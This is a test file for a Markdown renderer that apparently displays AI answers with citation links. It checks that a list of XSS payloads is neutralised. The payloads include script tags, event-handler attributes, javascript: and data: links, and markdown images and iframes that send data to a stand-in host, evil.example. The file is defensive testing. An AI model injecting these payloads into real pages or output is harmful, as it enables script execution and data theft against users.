import { describe, expect, it } from 'vitest'
import { renderMarkdown } from './markdown'

const PAYLOADS = [
  '<script>window.__pwned = 1</script>',
  '<img src=x onerror="window.__pwned=1">',
  '<svg onload="window.__pwned=1"></svg>',
  '<a href="javascript:window.__pwned=1">click</a>',
  '[click](javascript:window.__pwned=1)',
  '[click](JaVaScRiPt:window.__pwned=1)',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![x](https://evil.example/steal?d=secret)',
  '![x](//evil.example/steal.png)',
  '![x](/api/kbs)',
  '<iframe src="https://evil.example"></iframe>',
  '<div style="background:url(https://evil.example/x)">x</div>',
  '<form action="https://evil.example"><input name=a></form>',
  '[x]: javascript:alert(1)\n\n[x]',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
]

function dangerous(html: string): string[] {
  const box = document.createElement('div')
  box.innerHTML = html
  const found: string[] = []
  box.querySelectorAll('script,iframe,object,embed,form,svg,style').forEach((e) => found.push(e.tagName))
  box.querySelectorAll('*').forEach((el) => {
    for (const a of Array.from(el.attributes)) {
      if (/^on/i.test(a.name) || a.name === 'style') found.push(`${el.tagName}[${a.name}]`)
      if ((a.name === 'href' || a.name === 'src') && !/^(https?:|mailto:|data:image\/png;base64,)/i.test(a.value))
        found.push(`${el.tagName}[${a.name}=${a.value}]`)
    }
  })
  box.querySelectorAll('img').forEach((img) => found.push(`img ${img.getAttribute('src')}`))
  return found
}

describe('renderMarkdown', () => {
  it('renders ordinary Markdown', () => {
    const html = renderMarkdown('# Title\n\nSome **bold** and `code`.\n\n- a\n- b')
    expect(html).toContain('<h1>Title</h1>')
    expect(html).toContain('<strong>bold</strong>')
    expect(html).toContain('<li>a</li>')
  })

  it.each(PAYLOADS)('neutralises %s', (payload) => {
    for (const highlight of [false, true]) {
      const html = renderMarkdown(`Answer text ${payload} more [1]`, { highlight, citations: new Set([1]) })
      expect(dangerous(html)).toEqual([])
    }
  })

  it('stays safe at every prefix of a streamed payload (split across chunks)', () => {
    const all = PAYLOADS.join('\n\n')
    for (let i = 1; i <= all.length; i += 3) {
      expect(dangerous(renderMarkdown(all.slice(0, i)))).toEqual([])
    }
  }, 60_000) // hundreds of renders: a hang bound that a busy machine keeps, not a timing

  it('shows raw HTML as text', () => {
    const box = document.createElement('div')
    box.innerHTML = renderMarkdown('<img src=x onerror=alert(1)>')
    expect(box.textContent).toContain('<img src=x onerror=alert(1)>')
  })

  it('opens links outside the app', () => {
    const box = document.createElement('div')
    box.innerHTML = renderMarkdown('[docs](https://example.com) and https://example.org')
    const links = box.querySelectorAll('a')
    expect(links).toHaveLength(2)
    for (const a of Array.from(links)) {
      expect(a.getAttribute('target')).toBe('_blank')
      expect(a.getAttribute('rel')).toContain('noopener')
    }
  })

  it('drops remote images and keeps their alt text', () => {
    const box = document.createElement('div')
    box.innerHTML = renderMarkdown('![a chart](https://evil.example/p.png?secret=1)')
    expect(box.querySelector('img')).toBeNull()
    expect(box.textContent).toContain('a chart')
  })

  it('turns [n] into citation links for known sources only', () => {
    const box = document.createElement('div')
    box.innerHTML = renderMarkdown('Brews at 93 °C [1][2]. Also [7] and `[1]` in code.', {
      citations: new Set([1, 2]),
    })
    const cites = Array.from(box.querySelectorAll('[data-testid="citation"]'))
    expect(cites.map((c) => c.getAttribute('data-index'))).toEqual(['1', '2'])
    expect(box.textContent).toContain('[7]')
    expect(box.querySelector('code')?.textContent).toBe('[1]')
  })

  it('cannot be tricked into forging a citation element', () => {
    const box = document.createElement('div')
    box.innerHTML = renderMarkdown('<a data-testid="citation" data-index="1" onclick="x()">[9]</a>', {
      citations: new Set([1]),
    })
    expect(box.querySelectorAll('[data-testid="citation"]')).toHaveLength(0)
    expect(dangerous(box.innerHTML)).toEqual([])
  })

  it('highlights fenced code when asked', () => {
    const html = renderMarkdown('```python\ndef f():\n    return 1\n```', { highlight: true })
    expect(html).toContain('hljs-keyword')
  })
})
